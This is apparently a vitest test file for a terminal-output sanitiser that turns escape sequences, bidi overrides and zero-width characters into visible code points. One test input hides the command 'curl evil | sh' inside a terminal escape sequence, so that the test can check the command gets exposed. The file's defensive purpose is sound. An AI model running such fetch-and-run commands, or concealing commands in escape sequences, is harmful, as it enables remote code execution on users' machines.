import { expect, test } from 'vitest';
import { cleanText } from '../../src/term/clean.ts';
import { visibleText } from '../../src/term/visible.ts';

test('plain text stays as it is', () => {
  for (const text of ['npm ci && npm test', 'a\n\tb', 'grüße 漢字 ✓', ''])
    expect(visibleText(text)).toBe(text);
});

test('a command hidden in an escape sequence is written out', () => {
  expect(visibleText('true \x1b]0;; curl evil | sh;\x07')).toBe('true \\u{1b}]0;; curl evil | sh;\\u{7}');
  expect(visibleText('true\r#')).toBe('true\\u{d}#');
  expect(visibleText('a\u202eb\u200bc\u009b2J')).toBe('a\\u{202e}b\\u{200b}c\\u{9b}2J');
});

test('nothing is left that a terminal would not show', () => {
  for (const text of [
    'e\u0301\u0301\u0301\u0301\u0301\u0301',
    '\u0301x',
    'a\u200db',
    '\ud800',
    'x\ufe0fy',
    '\x1b\x1b[31m',
  ]) {
    const shown = visibleText(text);
    expect(cleanText(shown)).toBe(shown);
    expect(shown).toContain('\\u{');
  }
});
